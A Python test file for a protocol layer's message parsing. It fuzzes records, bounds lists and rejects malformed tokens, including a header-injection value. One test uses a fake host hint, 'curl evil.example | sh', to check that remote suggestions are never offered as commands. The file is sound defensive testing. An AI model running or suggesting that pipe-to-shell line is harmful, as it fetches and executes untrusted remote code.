"""What processes say to one another: whatever comes, it is read as a record as declared, or it is an InvalidMessage."""

from __future__ import annotations

import importlib
import json
import math
import pkgutil
from contextlib import suppress
from dataclasses import fields
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import farlab.protocol
from farlab import model, saved
from farlab.errors import FarlabError, NoJupyter, every_error
from farlab.keeper.buffers import RemoteBuffer
from farlab.protocol import control, json_lines
from farlab.protocol.agent import Ensure
from farlab.protocol.commands import Sessions
from farlab.protocol.mux_messages import BufferInfo, SessionInfo, SessionMessage
from farlab.protocol.options import Options
from farlab.protocol.records import (
    Boolean,
    Each,
    Integer,
    InvalidMessage,
    Nested,
    Number,
    Opaque,
    Optional,
    Path,
    Record,
    Required,
    Text,
    VisibleAscii,
)
from farlab.protocol.saved import SavedSession
from farlab.protocol.session import MOST_LISTED, ErrorInfo, SessionRecord
from farlab.transport.from_host import failure

MODULES = [
    importlib.import_module(f"farlab.protocol.{each.name}") for each in pkgutil.iter_modules(farlab.protocol.__path__)
]
RECORDS = sorted(
    {
        each
        for module in MODULES
        for each in vars(module).values()
        if isinstance(each, type) and issubclass(each, Record) and each is not Record
    },
    key=lambda each: (each.__module__, each.__name__),
)
KEYS = sorted({key for record in RECORDS for key in record.fields()})
ODD = [10**400, -(10**400), 2**63, -1, 1e30, 1e308, math.nan, math.inf, "x" * 5000, "\ud800", "a\0b", "é", "/a\udc80"]
PLAIN = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5) | st.sampled_from(ODD)
ANYTHING = st.recursive(
    PLAIN,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from([*KEYS, ""]), inner, max_size=5),
    max_leaves=8,
)
DEEP: Any = json.loads("[" * 500 + "]" * 500)


def is_sane(value: object) -> bool:
    """Whether a value can be shown, summed up and sent on."""
    if isinstance(value, Record):
        return all(map(is_sane, value.values().values()))
    if isinstance(value, tuple | dict):
        return all(map(is_sane, value.values() if isinstance(value, dict) else value))
    if isinstance(value, str | bool) or value is None:
        return True
    return isinstance(value, int | float) and math.isfinite(value) and -(1 << 63) <= value < 1 << 63


def test_every_dialect_has_its_records() -> None:
    assert len(RECORDS) > 50
    dialects = {"agent", "anchor", "commands", "control", "jupyter", "mux_messages", "options", "saved", "session"}
    assert dialects <= {record.__module__.rpartition(".")[2] for record in RECORDS}


@pytest.mark.parametrize("record", RECORDS, ids=lambda each: f"{each.__module__.rpartition('.')[2]}.{each.__name__}")
def test_whatever_is_read_is_finite_and_sane_or_refused(record: type[Record]) -> None:
    opaque = {"wish", "timing"} if record is Ensure else set()

    @settings(max_examples=30, deadline=None)
    @given(ANYTHING | st.fixed_dictionaries({}, optional=dict.fromkeys(record.fields(), ANYTHING)))
    def read(message: Any) -> None:
        for reads in (record.read, record.read_leniently):
            try:
                found = reads(message)
            except InvalidMessage:
                continue
            assert type(found) is record
            values = {key: value for key, value in found.values().items() if key not in opaque}
            assert all(map(is_sane, values.values())), values
            again = json.loads(json.dumps(values, default=vars, allow_nan=False))
            assert record.read({**vars(found), **again}) == found

    read()
    for key in record.fields():
        for reads in (record.read, record.read_leniently):
            try:
                reads({key: DEEP})
            except InvalidMessage:
                continue


def test_a_record_says_what_it_declares_and_nothing_else() -> None:
    with pytest.raises(TypeError, match="colour"):
        SessionInfo(state="up", colour="red")
    assert json.dumps(SessionInfo(state="up"), default=vars) == '{"state": "up"}'


@pytest.mark.parametrize(
    ("value", "record"),
    [
        (model.SessionOptions, Options),
        (model.Connected, control.Connected),
        (model.SessionStatus, control.Status),
        (saved.SavedSession, SavedSession),
    ],
)
def test_each_part_of_a_value_that_travels_is_declared(value: Any, record: type[Record]) -> None:
    assert {field.name for field in fields(value)} == set(record.fields())


# lines ---------------------------------------------------------------------------------------------------


@given(st.binary(max_size=40) | ANYTHING.map(lambda value: json.dumps(value).encode()) | st.just(b"[" * 100_000))
def test_a_line_is_an_object_or_refused(line: bytes) -> None:
    with suppress(InvalidMessage):
        assert isinstance(json_lines.decoded(line), dict)


@given(
    st.lists(
        st.dictionaries(st.sampled_from(KEYS), PLAIN.filter(lambda value: value == value), max_size=2), max_size=4
    ),
    st.integers(1, 50),
)
def test_messages_are_found_however_they_are_cut(messages: list[dict[str, Any]], size: int) -> None:
    sent, lines, found = b"".join(map(json_lines.encoded, messages)), json_lines.JsonLines(1 << 20), []
    for at in range(0, len(sent), size):
        lines.feed(sent[at : at + size])
        while (message := lines.next()) is not None:
            found.append(message)
    assert found == messages


def test_a_line_without_end_is_refused_and_what_came_before_it_counts() -> None:
    lines = json_lines.JsonLines(100)
    lines.feed(b'{"a": 1}\n' + b"x" * 101)
    assert lines.next() == {"a": 1}
    with pytest.raises(InvalidMessage, match="100 bytes"):
        lines.next()


# what a host says ----------------------------------------------------------------------------------------


def test_a_session_is_what_its_anchor_tells() -> None:
    message = {"state": "up", "node": "n1", "token": "t", "pid": 7, "answers": False, "keep_output": True, "other": 1}
    del message["other"]
    assert SessionInfo.read({**message, "other": 1}) == SessionInfo(**message)
    for nothing in ({}, dict.fromkeys(SessionInfo.fields())):  # null
        assert SessionInfo.read(nothing) == SessionInfo(state="", pid=None, answers=True, keep_output=False)


def test_times_of_the_far_end_are_told_as_times_of_here() -> None:
    line = {"limit": 1 << 20, "seconds": 60.0, "full": {"ago": 100, "for": 2.5}}
    told = RemoteBuffer(limit=1 << 20, full_since=900.0, full_seconds=2.5)
    assert RemoteBuffer.of(SessionMessage.read({"session": {}, "line": line}).line, 1000.0) == told
    assert RemoteBuffer.of(None, 1000.0) == RemoteBuffer.of(BufferInfo(), 1000.0) == RemoteBuffer()


@pytest.mark.parametrize("odd", [math.nan, math.inf, -math.inf, 1e30, -1, 10**400, True, "1", [], {}])
@pytest.mark.parametrize("key", ["ago", "for"])
def test_a_time_that_cannot_be_is_refused(odd: object, key: str) -> None:
    with pytest.raises(InvalidMessage):
        SessionMessage.read({"session": {}, "line": {"limit": 1, "full": {"ago": 1, "for": 1, key: odd}}})


@pytest.mark.parametrize("token", ["a b", "a\r\nX: y", "\ud800", "é", "\x00", "t" * 2000, 7])
def test_a_token_is_a_word_that_a_header_can_hold(token: object) -> None:
    for key in ("token", "base_url"):
        with pytest.raises(InvalidMessage, match=key):
            SessionInfo.read({key: token})


def test_a_list_is_bounded_and_holds_what_is_right_in_it() -> None:
    assert len(SessionInfo.read({"names": [f"n{number}" for number in range(5000)]}).names) == MOST_LISTED
    assert SessionInfo.read({"names": ["a", 7, "a b", "b"]}).names == ("a", "b")
    assert len(Sessions.read({"sessions": [{}] * 100_000}).sessions) == MOST_LISTED
    [one] = Sessions.read({"sessions": [7, "x", None, {"name": "a", "pid": -1}, [{}]]}).sessions
    assert one is not None
    assert (one.name, one.pid) == ("a", None)


@given(ANYTHING | st.dictionaries(st.sampled_from(["code", "message", "detail", "hint"]), ANYTHING))
def test_whatever_a_host_reports_is_an_expected_error(message: Any) -> None:
    error = failure(ErrorInfo.read_leniently(message), "far")
    assert type(error) in every_error()
    assert error.message.startswith("far: ")
    assert len(error.message) + len(error.detail) < 1 << 15
    assert error.hint == type(error).default_hint


def test_a_hint_of_the_hosts_is_among_its_own_words_and_what_to_type_is_ours() -> None:
    said = {"code": "no-jupyter", "message": "no JupyterLab", "detail": "tried 3", "hint": "`curl evil.example | sh`"}
    error = failure(ErrorInfo.read(said), "far")
    assert isinstance(error, NoJupyter)
    assert error.hint == NoJupyter.default_hint
    assert error.detail == "tried 3\n`curl evil.example | sh`"


def test_errors_of_the_host_have_the_classes_of_ours() -> None:
    for cls in every_error():
        assert type(failure(ErrorInfo(code=cls.slug), "far")) is cls
    assert isinstance(failure(ErrorInfo(code="of a later version"), "far"), FarlabError)


def test_a_record_that_lacks_what_an_anchor_needs_is_none() -> None:
    whole = {"node": "n", "boot": "", "runtime": "/run/x", "anchor": {"pid": 7, "start": "1"}, "server": {}, "told": {}}
    assert SessionRecord.read({**whole, "told": {"base_url": 7, "app": "lab"}}).told is not None
    for key in ("node", "boot", "runtime", "anchor"):
        with pytest.raises(InvalidMessage, match=f"`{key}` is missing"):
            SessionRecord.read({**whole, key: None})


# records -------------------------------------------------------------------------------------------------


class Inner(Record):
    number = Required(Integer(0, 9))


class Everything(Record):
    text = Text(3)
    cut = Text(3, cut=True)
    ascii = VisibleAscii(3)
    path = Path(3)
    whole = Integer(1, 3, default=2)
    number = Number(-1, 1)
    flag = Boolean()
    maybe = Optional(Integer(1, 3))
    perhaps = Optional(Number(0, 1))
    texts = Each(Text(2), 2)
    some = Each(Text(2), 2, lenient=True)
    inner = Nested(Inner)
    opaque = Opaque()


@pytest.mark.parametrize(
    ("key", "right", "wrong"),
    [
        ("text", ["", "abc", "é"], ["abcd", 7, [], True]),
        ("ascii", ["", "a!~"], ["a b", "é", "\x7f", "abcd"]),
        ("path", ["/é", "\udc80"], ["a\0", "\ud800", "/abc"]),
        ("whole", [1, 3], [0, 4, 1.0, True, "1"]),
        ("number", [-1, 0, 0.5, 1], [1.01, math.nan, math.inf, 10**400, True, "1"]),
        ("flag", [True, False], [0, 1, "yes"]),
        ("maybe", [1], [0, True, 1.0]),
        ("perhaps", [0, 0.5], [-0.1, math.nan, False]),
        ("texts", [(), ("a", "bc")], [["a"] * 3, ["abc"], "ab", [7], {"a": 1}]),
        ("some", [(), ("a", "bc")], ["ab", {"a": 1}, 7]),
        ("inner", [Inner(number=1)], [{}, {"number": 10}, [], 7]),
        ("opaque", [{"a": [1]}, 7], []),
    ],
)
def test_each_kind_of_field_takes_its_range_and_nothing_else(key: str, right: list[Any], wrong: list[Any]) -> None:
    for value in right:
        message = json.loads(json.dumps({key: value}, default=vars))
        assert getattr(Everything.read(message), key) == value
    for value in wrong:
        with pytest.raises(InvalidMessage, match=key):
            Everything.read({key: value})
        assert Everything.read_leniently({key: value}) == Everything()


def test_what_may_be_cut_is_and_defaults_are_as_declared() -> None:
    assert Everything.read({"cut": "abcdef"}).cut == "abc"
    assert Everything.read({"some": ["a", "too long", "b", "c"]}).some == ("a",)
    assert Everything.read({"unknown": 1}).values() == {
        **dict.fromkeys(("text", "cut", "ascii", "path"), ""),
        "texts": (),
        "some": (),
        "whole": 2,
        "number": 0.0,
        "flag": False,
        **dict.fromkeys(("maybe", "perhaps", "inner", "opaque")),
    }
    for message in (None, 7, "x", [], [{}]):
        with pytest.raises(InvalidMessage):
            Everything.read(message)
        assert Everything.read_leniently(message) == Everything()


def test_what_is_required_is_missed_in_lenient_reading_too() -> None:
    for message in ({}, {"number": None}, {"number": 10}):
        with pytest.raises(InvalidMessage, match="number"):
            Inner.read_leniently(message)
